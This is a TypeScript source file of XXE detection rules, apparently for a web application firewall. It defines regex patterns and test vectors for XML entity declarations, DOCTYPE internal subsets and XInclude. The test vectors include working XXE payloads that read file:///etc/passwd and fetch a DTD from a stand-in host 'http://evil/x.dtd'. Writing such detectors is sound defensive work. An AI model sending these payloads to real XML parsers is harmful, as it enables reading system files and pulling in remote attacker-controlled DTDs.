/** XML external entities: DOCTYPE with ENTITY declarations (external or parameter entities), XInclude. */
import type { ValueRule } from '../types.js';
import { DL, INPUTS } from './common.js';

export const XXE_RULES: readonly ValueRule[] = [
  {
    id: 'xxe-entity-declaration',
    class: 'xxe',
    severity: 'critical',
    paranoia: 1,
    description: 'an ENTITY declaration (external SYSTEM/PUBLIC entities, parameter entities) in a DOCTYPE or anywhere in a value',
    targets: ['xml-decl', ...INPUTS],
    transforms: DL,
    anyChar: '<',
    pattern: /<!entity\s{1,8}(?:%\s{1,8})?[\w.:-]{1,64}\s{1,8}(?:system|public|["'])|<!doctype\s{1,8}[\w.:-]{1,64}\s{1,8}(?:system|public)\s{1,8}["'](?:https?|file|ftp|php|expect|jar|netdoc|gopher|data):/,
    vectors: { fire: ['<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', '<!ENTITY % dtd SYSTEM "http://evil/x.dtd">', '<!DOCTYPE x SYSTEM "http://evil/x.dtd">'], noFire: ['<!DOCTYPE html>', 'entity framework'] },
  },
  {
    id: 'xxe-doctype',
    class: 'xxe',
    severity: 'warning',
    paranoia: 1,
    description: 'a DOCTYPE with an internal subset in an XML request body (APIs rarely need one; it enables entity tricks)',
    targets: ['xml-decl'],
    transforms: DL,
    anyChar: '[',
    pattern: /<!doctype[^>[]{0,200}\[/,
    vectors: { fire: [{ value: '<!DOCTYPE r [<!ELEMENT r ANY>]>', kind: 'xml-decl' }], noFire: [{ value: '<!DOCTYPE html>', kind: 'xml-decl' }] },
  },
  {
    id: 'xxe-xinclude',
    class: 'xxe',
    severity: 'critical',
    paranoia: 1,
    description: 'XInclude elements and namespaces that pull in local or remote files',
    targets: INPUTS,
    transforms: DL,
    anyChar: ':',
    pattern: /<xi:include\b|xmlns:xi\s{0,4}=\s{0,4}["']http:\/\/www\.w3\.org\/2001\/xinclude|<xsl:(?:include|import)\s{1,8}href/,
    vectors: { fire: ['<xi:include href="file:///etc/passwd" parse="text"/>', '<foo xmlns:xi="http://www.w3.org/2001/XInclude">'], noFire: ['<x:include>'] },
  },
];
